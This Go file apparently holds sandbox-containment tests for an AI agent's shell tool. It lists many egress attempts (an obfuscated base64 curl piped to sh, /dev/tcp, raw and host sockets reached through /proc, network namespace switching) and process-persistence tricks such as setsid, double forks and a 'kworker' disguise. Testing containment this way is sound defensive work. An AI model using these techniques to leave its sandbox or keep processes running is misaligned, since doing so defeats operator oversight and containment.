package attack

import "encoding/base64"

// bytesOut: no byte leaves the sandbox.
func bytesOut() []try {
	py := func(code string) string { return "python3 -c '" + code + "'" }
	return []try{
		line("curl to the host", contained, "curl -s -m 3 http://127.0.0.1:{tcp}/"),
		{"curl by a decoder", contained, func(w *world) (string, []byte) {
			code := base64.StdEncoding.EncodeToString([]byte(w.fill("curl -s -m 3 http://127.0.0.1:{tcp}/")))
			return line("", contained, "echo "+code+" | base64 -d | sh").run(w)
		}},
		line("bash's own TCP", contained, "exec 3<>/dev/tcp/127.0.0.1/{tcp}; echo x >&3"),
		line("bash's own UDP", denied, "echo x > /dev/udp/127.0.0.1/{udp}"),
		line("python TCP", contained, py(`import socket;s=socket.create_connection(("127.0.0.1",{tcp}),2)`)),
		line("python UDP", contained, py(`import socket;s=socket.socket(2,2);s.sendto(b"x",("127.0.0.1",{udp}))`)),
		line("IPv6 mapped", contained, py(`import socket;s=socket.create_connection(("::ffff:127.0.0.1",{tcp}),2)`)),
		line("0.0.0.0", contained, py(`import socket;s=socket.create_connection(("0.0.0.0",{tcp}),2)`)),
		line("TCP fast open", contained, py(`import socket;s=socket.socket();s.sendto(b"x",0x20000000,("127.0.0.1",{tcp}))`)),
		line("a raw socket", contained, py(`import socket;s=socket.socket(2,3,1);s.sendto(b"x",("127.0.0.1",0))`)),
		line("a packet socket", contained, py(`import socket;s=socket.socket(17,3,3);print(s)`)),
		line("ICMP without root", contained, py(`import socket;s=socket.socket(2,2,1);s.sendto(b"x",("127.0.0.1",0))`)),
		line("SCTP", contained, py(`import socket;s=socket.socket(2,1,132);s.connect(("127.0.0.1",{tcp}))`)),
		line("vsock", contained, py(`import socket;s=socket.socket(40,1);s.connect((2,1024))`)),
		line("netlink", contained, py(`import socket;s=socket.socket(16,3,0);s.bind((0,0))`)),
		line("an abstract socket of the host", contained, py(`import socket;s=socket.socket(1);s.connect("\0{abstract}")`)),
		line("a socket of the host by its path", contained, py(`import socket;s=socket.socket(1);s.connect("{outside}/service.sock")`)),
		line("a datagram to it", contained, py(`import socket;s=socket.socket(1,2);s.sendto(b"x","{outside}/service.sock")`)),
		line("the agent socket", contained, py(`import socket;s=socket.socket(1);s.connect("{dir}/run/a.sock")`)),
		line("the operator socket", contained, py(`import socket;s=socket.socket(1);s.connect("{dir}/run/o.sock")`)),
		line("it through /proc", contained, py(`import socket;s=socket.socket(1);s.connect("/proc/{pid}/root{dir}/run/o.sock")`)),
		line("DNS", contained, "getent hosts attack.example"),
		line("git fetch", contained, "git fetch http://127.0.0.1:{tcp}/x"),
		line("git push", contained, "git push http://127.0.0.1:{tcp}/x main"),
		line("npm publish", asked, "npm publish --registry http://127.0.0.1:{tcp}"),
		line("io_uring", contained, py(`import ctypes;l=ctypes.CDLL(None);print(l.syscall(425,8,ctypes.create_string_buffer(120)))`)),
		line("another network namespace", contained, py(`import ctypes;l=ctypes.CDLL(None,use_errno=True);print(l.setns(l.open(b"/proc/{pid}/ns/net",0),0x40000000),ctypes.get_errno())`)),
		line("a descriptor of a socket by pidfd", contained, py(`import ctypes;l=ctypes.CDLL(None);p=l.syscall(434,{pid},0);print(l.syscall(438,p,5,0))`)),
		line("the network of a mount namespace", contained, "cat /proc/{pid}/net/tcp"),
	}
}

// processesLeft: no process stays after its call.
func processesLeft() []try {
	return []try{
		line("background", contained, "sleep {marker} &"),
		line("nohup", contained, "nohup sleep {marker} >/dev/null 2>&1 &"),
		line("setsid", contained, "setsid sleep {marker} >/dev/null 2>&1 &"),
		line("setsid -f", contained, "setsid -f sleep {marker} >/dev/null 2>&1"),
		line("disown", contained, "sleep {marker} >/dev/null 2>&1 & disown -a"),
		line("a double fork", contained, "( ( sleep {marker} & ) & ) >/dev/null 2>&1"),
		line("TERM ignored", contained, "bash -c 'trap \"\" TERM HUP INT; sleep {marker}' >/dev/null 2>&1 &"),
		line("stopped", contained, "sleep {marker} >/dev/null 2>&1 & kill -STOP $!"),
		line("a daemon in python", contained, "python3 -c 'import os,time\nif os.fork()==0:\n os.setsid()\n if os.fork()==0:\n  os.execvp(\"sleep\",[\"sleep\",\"{marker}\"])\n'"),
		line("a name that is not its own", contained, "(exec -a kworker sleep {marker}) >/dev/null 2>&1 &"),
		line("a chain of forks", contained, "for i in $(seq 50); do (sleep {marker} >/dev/null 2>&1 &) ; done"),
		line("it holds the output open", contained, "sleep {marker} & exit 0"),
		{"a call that is cancelled", contained, func(w *world) (string, []byte) {
			return w.cancelled(func(s, call string) {
				w.must(w.agent.Do(w.t.Context(), "POST", "/calls/"+call+"/cancel", map[string]any{}, nil))
			})
		}},
		{"a session that is deleted meanwhile", contained, func(w *world) (string, []byte) {
			return w.cancelled(func(s, _ string) {
				w.must(w.agent.Do(w.t.Context(), "DELETE", "/sessions/"+s, nil, nil))
			})
		}},
		{"a call at its limit of time", contained, func(w *world) (string, []byte) {
			return w.outcome(w.session(), "Bash", w.fill(`{"command":"setsid sleep {marker} & sleep {marker}","timeout":700}`))
		}},
	}
}
